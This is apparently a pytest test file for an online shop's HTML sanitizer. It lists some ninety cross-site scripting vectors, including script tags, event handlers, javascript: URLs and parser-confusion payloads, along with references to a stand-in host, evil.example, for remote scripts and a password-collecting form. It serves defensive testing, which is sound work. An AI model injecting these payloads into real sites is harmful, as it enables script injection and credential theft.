"""What outside text must never become, however it is written."""

from html.parser import HTMLParser

import pytest
from django.template import Context, Template
from hypothesis import given
from hypothesis import strategies as st

from shop.core.html import ALLOWED_TAGS, MAX_LENGTH, normalize_text, plain_text, sanitize_html

VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<script >alert(1)</script >",
    "<script/x>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<script>alert(1)",
    "<script\x00>alert(1)</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x:alert(alt) onerror=eval(src) alt=xss>",
    '<img src="javascript:alert(1)">',
    "<img/src/onerror=alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
    '<math href="javascript:alert(1)">x</math>',
    "<body onload=alert(1)>",
    "<body background=javascript:alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<iframe src=//evil.example></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x></applet>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=import href=data:text/html,x>",
    '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>*{background:url(javascript:alert(1))}</style>",
    '<p style="background:url(https://evil.example/x)">x</p>',
    '<p style="width:expression(alert(1))">x</p>',
    "<p onclick=alert(1)>x</p>",
    "<p onmouseover=alert(1) >x</p>",
    "<p/onfocus=alert(1) autofocus tabindex=1>x</p>",
    '<p class="modal" id="basket" name="token" data-hx-get="/x" hx-get="/x" x-init="alert(1)">x</p>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="java&#10;script:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="&#x6A;avascript&colon;alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="javascript&#0;:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    '<a href="blob:https://evil.example/1">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<a href="http://evil.example">x</a>',
    '<a href="//evil.example">x</a>',
    '<a href="/accounts/logout/">x</a>',
    '<a href="https://evil.example" target=_blank rel=opener onclick=alert(1)>x</a>',
    '<a href="https://evil.example" ping="https://evil.example/p" download>x</a>',
    '<a href="https://x.example/"onmouseover="alert(1)">x</a>',
    "<form action=https://evil.example><input name=password><button>x</button></form>",
    '<form id=x></form><button form=x formaction="javascript:alert(1)">x</button>',
    "<input onfocus=alert(1) autofocus>",
    "<textarea></textarea><script>alert(1)</script>",
    "<select onchange=alert(1)><option>x</option></select>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<isindex type=image src=1 onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<template><script>alert(1)</script></template>",
    "<title><img src=x onerror=alert(1)></title>",
    '<xmp><p title="</xmp><script>alert(1)</script>">',
    "<plaintext><script>alert(1)</script>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<!DOCTYPE html [<!ENTITY x 'y'>]><p>&x;</p>",
    "<b onmouseover=alert(1)>x</b>",
    "<h1 onclick=alert(1)>x</h1>",
    "<code onclick=alert(1)>x</code>",
    "<p><custom-element onclick=alert(1)>x</custom-element></p>",
    "<table background=javascript:alert(1)><tr><td>x</table>",
    "<p title='</p><script>alert(1)</script>'>x</p>",
    "\ufeff<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞<script>alert(1)</script>",
    "{{ settings.SECRET_KEY }}{% load static %}<script>alert(1)</script>",
]


class Attributes(HTMLParser):
    """Collects every tag and attribute that a browser would see."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[tuple[str, str]] = set()
        self.others: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes.update((name, value or "") for name, value in attrs)

    def handle_comment(self, data: str) -> None:
        self.others.append(data)

    def handle_decl(self, decl: str) -> None:
        self.others.append(decl)

    def handle_pi(self, data: str) -> None:
        self.others.append(data)


def assert_harmless(text: str) -> None:
    seen = Attributes()
    seen.feed(text)
    seen.close()
    assert seen.tags <= ALLOWED_TAGS
    assert {name for name, _value in seen.attributes} <= {"href", "rel"}
    assert all(value.startswith("https://") for name, value in seen.attributes if name == "href")
    assert {value for name, value in seen.attributes if name == "rel"} <= {"noopener nofollow"}
    assert seen.others == []


def test_there_are_vectors_enough():
    assert len(set(VECTORS)) >= 60


@pytest.mark.parametrize("vector", VECTORS)
def test_nothing_that_acts_survives(vector: str):
    cleaned = sanitize_html(f"<p>before</p>{vector}<p>after</p>")

    assert_harmless(cleaned)
    assert sanitize_html(cleaned) == cleaned
    assert "before" in cleaned


@pytest.mark.parametrize("vector", VECTORS)
def test_the_filter_cleans_what_was_stored_unclean(vector: str):
    template = Template("{% load html %}{{ text|sanitized }}")

    assert_harmless(template.render(Context({"text": vector})))


@pytest.mark.parametrize("vector", VECTORS)
def test_plain_text_shows_no_tag_even_unescaped_once(vector: str):
    shown = Template("{{ text }}").render(Context({"text": plain_text(vector)}))

    seen = Attributes()
    seen.feed(shown)
    assert seen.tags == set()


@given(st.text(alphabet=st.sampled_from("<>/\"'=&;:# \n\tabiphreftdivscode1https.")))
def test_cleaning_twice_changes_nothing(text: str):
    cleaned = sanitize_html(text)

    assert sanitize_html(cleaned) == cleaned
    assert_harmless(cleaned)


@pytest.mark.parametrize(
    ("given_text", "expected"),
    [
        ("<p>One &amp; two</p><ul><li>a</li></ul>", "<p>One &amp; two</p><ul><li>a</li></ul>"),
        ("<h1>Big</h1><h6>Small</h6>", "<h3>Big</h3><h4>Small</h4>"),
        ("<b>bold</b> and <i class=x>slanted</i>", "<strong>bold</strong> and <em>slanted</em>"),
        ("<div>one</div><div>two</div>", "one  two"),
        ("<table><tr><td>a</td><td>b</td></tr></table>", "a  b"),
        ("line<br/>break", "line<br>break"),
        ("a\r\nb\rc", "a\nb\nc"),
        (
            '<a href="https://vendor.example/?a=1&b=2">x</a>',
            '<a href="https://vendor.example/?a=1&amp;b=2" rel="noopener nofollow">x</a>',
        ),
        ("<br", ""),
        ("", ""),
    ],
)
def test_what_a_description_needs_is_kept(given_text: str, expected: str):
    assert sanitize_html(given_text) == expected


@pytest.mark.parametrize(
    ("given_text", "expected"),
    [
        ("Charts &amp; boards\r\n  for <b>teams</b>", "Charts & boards for teams"),
        ("Charts & boards", "Charts & boards"),
        ("<p>One.</p><p>Two.</p>", "One. Two."),
        ("a\x00b\ud800c", "abc"),
        ("<script>alert(1)</script>safe", "safe"),
        ("Who <strong>asks</strong>, pays <em>nothing</em>.<br>Yes.", "Who asks, pays nothing. Yes."),
    ],
)
def test_plain_text_is_one_line_of_words(given_text: str, expected: str):
    assert plain_text(given_text) == expected


def test_characters_that_a_database_refuses_are_dropped():
    assert normalize_text("a\x00\x1b\x7f\udfff\tb\nc") == "a\tb\nc"


def test_characters_that_nobody_sees_and_that_turn_the_text_around_are_dropped():
    assert normalize_text("ab\u202egnp.exe\u2066\x9b1m\ufeff\u200b") == "abgnp.exe1m"
    # Those that scripts and emoji are written with stay.
    assert (
        normalize_text("\u05d0\u200f\u0646\u200c\u0627 👩\u200d💻")
        == "\u05d0\u200f\u0646\u200c\u0627 👩\u200d💻"
    )


def test_an_endless_text_is_cut_before_it_is_parsed():
    assert len(sanitize_html("x" * (MAX_LENGTH + 5_000_000))) == MAX_LENGTH
